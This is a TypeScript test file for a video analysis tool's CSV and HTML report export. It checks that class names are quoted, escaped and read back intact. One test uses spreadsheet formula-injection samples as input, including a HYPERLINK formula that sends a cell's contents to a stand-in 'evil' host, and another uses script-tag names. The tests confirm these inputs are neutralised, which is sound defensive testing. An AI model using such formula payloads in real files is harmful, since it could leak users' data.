import { describe, expect, it } from 'vitest';
import { htmlReport } from '../../../src/core/analysis/html-report.ts';
import { fromCsv, toCsv, toPlain, type Findings } from '../../../src/core/analysis/report.ts';

const findings: Findings = {
  version: '1.2.3',
  video: { width: 8, height: 4, start: 0, duration: 0.12, frameCount: 3, codec: 'vp8' },
  model: {
    id: 'm',
    sha256: 'abc',
    licence: 'MIT',
    classes: [
      { id: 0, name: 'sky' },
      { id: 1, name: 'a "sign", red' },
    ],
  },
  options: { every: 1, refine: false, mirror: false, ensemble: null, backend: 'wasm' },
  frames: [
    { index: 0, timestamp: 0, shares: Float32Array.of(0.25, 0.75) },
    { index: 2, timestamp: 0.0800001, shares: Float32Array.of(1, 0) },
  ],
  lost: [1],
};

describe('figures taken away', () => {
  it('are a line a frame, with names quoted where they need it', () => {
    expect(toCsv(findings)).toBe('frame,seconds,sky,"a ""sign"", red"\n0,0,0.25,0.75\n2,0.08,1,0\n');
  });

  it('run nothing in a spreadsheet, and are read back as they were', () => {
    const names = [
      '=HYPERLINK("http://evil/?"&A1,"x")',
      '-2',
      '\tcmd',
      '＝1',
      'a;=1',
      '__proto__',
      'a,b"c\nd',
      'twice',
      'twice',
    ];
    const classes = names.map((name, id) => ({ id, name }));
    const shares = names.map((_, id) => id / 36);
    const csv = toCsv({
      ...findings,
      model: { ...findings.model, classes },
      frames: [{ index: 7, timestamp: -0.25, shares: Float32Array.from(shares) }],
    });
    const [head = ''] = csv.split('\n');
    expect(head).toContain(
      `frame,seconds,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'-2,"'\tcmd",'＝1,"a;'=1",__proto__,`,
    );
    const back = fromCsv(csv);
    expect(back.classes).toEqual(names);
    expect(back.frames).toMatchObject([{ index: 7, timestamp: -0.25 }]);
    expect(Array.from(back.frames[0]?.shares ?? [], (share) => share.toFixed(6))).toEqual(
      shares.map((share) => share.toFixed(6)),
    );
  });

  it.each([
    ['', 'does not begin'],
    ['a,b\n1,2\n', 'does not begin'],
    ['frame,seconds,sky\n0,0\n', 'row 2 does not hold 3 numbers'],
    ['frame,seconds,sky\n0,0,much\n', 'row 2'],
    ['frame,seconds,"sk"y\n', 'quote'],
  ])('are read from nothing else: %j', (text, words) => {
    expect(() => fromCsv(text)).toThrow(words);
  });

  it('say what it takes to make them again, and survive JSON', () => {
    expect(JSON.parse(JSON.stringify(toPlain(findings)))).toEqual({
      perpixel: '1.2.3',
      video: findings.video,
      model: { id: 'm', sha256: 'abc', licence: 'MIT', classes: ['sky', 'a "sign", red'] },
      options: { every: 1, refine: false, mirror: false, ensemble: null, backend: 'wasm' },
      lost: [1],
      frames: [
        { index: 0, timestamp: 0, shares: [0.25, 0.75] },
        { index: 2, timestamp: 0.08, shares: [1, 0] },
      ],
    });
  });

  it('make a page that stands alone and shows names as text', () => {
    const classes = [
      { id: 0, name: '<b>sky</b>', colour: '#0000ff' },
      { id: 1, name: '=1+1', colour: '#ff0000' },
    ];
    const page = htmlReport(findings, classes, 'drive & <script>.mp4');
    expect(page).toContain('drive &amp; &lt;script>.mp4');
    expect(page).toContain('&lt;b>sky&lt;/b>');
    expect(page).toContain('</i>&#39;=1+1</th>');
    expect(page).not.toMatch(/<script|https?:|src=/);
    expect(page.match(/<polygon/g)).toHaveLength(2);
    expect(page).toContain('62.50 %');
    expect(page).toContain('1 could not be decoded');
  });

  it('make a page of an analysis without frames too', () => {
    expect(htmlReport({ ...findings, frames: [] }, [], 'a')).toContain('0 frames');
  });
});
